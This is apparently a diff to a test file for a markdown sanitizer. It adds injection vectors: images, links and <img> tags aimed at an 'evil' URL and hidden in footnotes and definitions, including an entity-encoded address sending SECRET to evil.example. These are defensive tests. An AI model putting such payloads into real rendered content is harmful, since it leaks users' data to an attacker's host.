@@ -1,4 +1,5 @@
 import { renderMarkdownToHtml } from "@blogsvc/client/markdown";
+import MarkdownIt from "markdown-it";
 import { expect, it } from "vitest";
 import { safeMarkdown, safeText } from "../../../worker/domains/models/budget/safe-markdown";
 import { xssVectors } from "../../client/markdown/xss-vectors";
@@ -23,6 +24,11 @@ const attacks: Record<string, string> = {
   "image in a list in a quote": `> - 1\n>   - ![x](${evil})`,
   "image in a heading": `## Title ![x](${evil})`,
   "image in a footnote": `Text[^1].\n\n[^1]: Note ![x](${evil})`,
+  "image in a footnote that nothing refers to": `Text.\n\n[^1]: ![x](${evil})`,
+  "image in a footnote in a list": `- Text.\n\n  [^1]: ![x](${evil})`,
+  "HTML in a footnote that nothing refers to": `Text.\n\n[^1]: <img src="${evil}">`,
+  "link in a footnote that nothing refers to": `Text.\n\n[^1]: <${evil}> and [x](${evil}).`,
+  "HTML in an indented line after a definition": `[e]: /guide\n    <img src="${evil}">`,
   "link in a footnote": `Text[^1].\n\n[^1]: Note [x](${evil}).`,
   "image by entities": `&#33;[x](${evil}) and &excl;[x](${evil})`,
   "address by entities": `![x](&#104;ttps&colon;//evil.example/?d=SECRET)`,
@@ -70,9 +76,11 @@ const attacks: Record<string, string> = {
   "title with an image": `[x](/guide "![y](${evil})") ![x](/guide '<img src=${evil}>')`,
 };
 
-/** What a reader's browser would load or follow. */
+const commonMark = new MarkdownIt("commonmark");
+
+/** What a reader's browser would load or follow, on a site that renders with ours or without footnotes. */
 function loads(markdown: string): string[] {
-  const html = renderMarkdownToHtml(markdown);
+  const html = renderMarkdownToHtml(markdown) + commonMark.render(markdown);
   const elements = html.match(/<(?:img|picture|source|video|audio|iframe|svg|style|script)\b/g) ?? [];
   const links = [...html.matchAll(/ href="([^"]*)"/g)].flatMap(([, href = ""]) =>
     /^(?:https:\/\/www\.acme\.example\/|https:\/\/source\.example\/report\?year=2026#top$|\/(?![/\\])|#)/.test(
